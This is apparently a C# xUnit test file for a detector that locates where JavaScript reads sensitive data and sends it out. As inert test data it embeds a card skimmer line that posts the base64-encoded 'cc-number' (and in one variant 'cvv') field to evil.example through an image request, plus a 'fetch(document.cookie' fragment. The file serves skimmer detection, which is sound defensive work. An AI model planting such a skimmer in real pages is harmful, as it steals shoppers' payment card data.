using System.Text;
using Shouldly;
using Weir.Scripts.Evidence;
using Weir.Scripts.Folding;
using Xunit;

namespace Weir.Tests.Scripts.Evidence;

/// <summary>Where something is read and sent. All scripts are inert text.</summary>
public sealed class FlowPlacesTests
{
    private const string Harmless = "function cart(items) { var sum = 0; for (var i = 0; i < items.length; i++) sum += items[i].price * items[i].count; return { sum: sum, tax: sum * 0.2 }; }\n";
    private const string Skimmer = "document.querySelector('#pay').onclick = function () { new Image().src = 'https://evil.example/p?d=' + btoa(document.getElementById('cc-number').value); };\n";

    [Fact]
    public void Of_SkimmerAmongHarmlessCode_IsThePlaceOfTheSkimmer()
    {
        string around = string.Concat(Enumerable.Repeat(Harmless, 20));
        string place = Text(around + Skimmer + around).ShouldHaveSingleItem();

        place.ShouldContain("'cc-number'");
        place.ShouldContain("new Image");
        place.Length.ShouldBeLessThan(Skimmer.Length + (2 * Harmless.Length));
    }

    [Fact]
    public void Of_NothingThatIsRead_IsNone() => Text(string.Concat(Enumerable.Repeat("fetch('/api/items').then(show);\n", 50))).ShouldBeEmpty();

    [Fact]
    public void Of_ManyPlaces_AreTheFourWhereMostIsRead()
    {
        string more = Skimmer.Replace("document.getElementById('cc-number').value", "[document.getElementById('cc-number').value, document.getElementById('cvv').value]", StringComparison.Ordinal);
        string[] places = Text(string.Concat(Enumerable.Repeat(Skimmer + string.Concat(Enumerable.Repeat(Harmless, 5)), 30)) + more);

        places.Length.ShouldBe(4);
        places[0].ShouldContain("'cvv'");
    }

    [Theory]
    [InlineData("")]
    [InlineData("fetch(")]
    [InlineData("}}}} fetch(document.cookie")]
    [InlineData("new Image().src = x + document.getElementById('cvv').value")]
    public void Of_AnyText_StaysWithinIt(string code) => Text(code).ShouldAllBe(place => place.Length <= code.Length);

    private static string[] Text(string code)
    {
        var folder = new ScriptFolder();
        folder.Fold(Encoding.UTF8.GetBytes(code));
        return [.. FlowPlaces.Of(folder).Select(place =>
        {
            int first = folder.Tokens[place][0].Offset, last = folder.Tokens[place][^1].Offset;
            return code[first..(last + 1)];
        })];
    }
}
